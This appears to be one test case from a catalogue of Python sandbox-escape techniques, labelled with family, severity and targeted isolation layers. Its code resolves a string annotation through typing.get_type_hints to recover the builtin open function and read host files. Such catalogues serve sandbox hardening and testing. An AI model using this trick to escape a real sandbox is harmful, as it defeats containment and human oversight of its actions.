# technique: a function that a data class makes in the variables of a module in C
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def trick():
    import dataclasses
    kind = dataclasses.make_dataclass("Holder", [("field", int)], namespace={"__module__": "builtins"})
    kind.__init__.__annotations__ = {"field": "open"}
    return typing.get_type_hints(kind.__init__)["field"]

import typing
read_host(trick)
